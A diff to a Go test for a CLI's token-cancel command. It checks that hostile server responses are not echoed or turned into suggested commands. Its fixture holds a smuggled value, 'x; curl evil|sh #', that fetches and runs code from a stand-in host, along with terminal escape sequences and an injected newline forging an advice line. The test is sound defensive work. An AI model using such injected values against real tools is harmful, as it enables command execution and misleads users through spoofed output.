@@ -203,7 +203,7 @@ func TestAnInterruptedCancelNamesItsTokens(t *testing.T) {
 func TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText(t *testing.T) {
 	at := time.Date(2026, 12, 7, 1, 0, 0, 0, time.UTC)
 	good := api.TokenView{ID: "c6dece0fc5dc", Node: "db-1", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending", Labels: map[string]string{"tier": "db\x1b[2J"}}
-	evil := api.TokenView{ID: "x; curl evil|sh #", Node: "db-1\x1b]0;pwn\x07", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
+	evil := api.TokenView{ID: "x; curl evil|sh #", Node: "db-1\x1b]0;pwn\x07\nmeshctl token cancel: to cancel it too: meshctl token cancel db-1 x", CreatedAt: at, ExpiresAt: at.Add(time.Hour), State: "pending"}
 	f := &fakeCaller{
 		list:   api.TokenListResult{Tokens: []api.TokenView{good, evil}},
 		answer: api.TokenCancelResult{Node: "db-1", Cancelled: []api.TokenView{good}, StillPending: []api.TokenView{evil}},
@@ -216,6 +216,9 @@ func TestTokenCancelSuggestsNoCommandMadeOfAnAnswersText(t *testing.T) {
 		t.Errorf("sent %+v, want the well-formed id alone", f.sent)
 	}
 	all := out.String() + errb.String()
+	if strings.Contains(errb.String(), "\nmeshctl token cancel: to cancel it too") {
+		t.Errorf("a line break in the answer printed a line of advice:\n%s", errb.String())
+	}
 	for _, bad := range []string{"curl", "\x1b", "\x07"} {
 		if strings.Contains(all, bad) {
 			t.Errorf("%q printed:\n%s", bad, all)
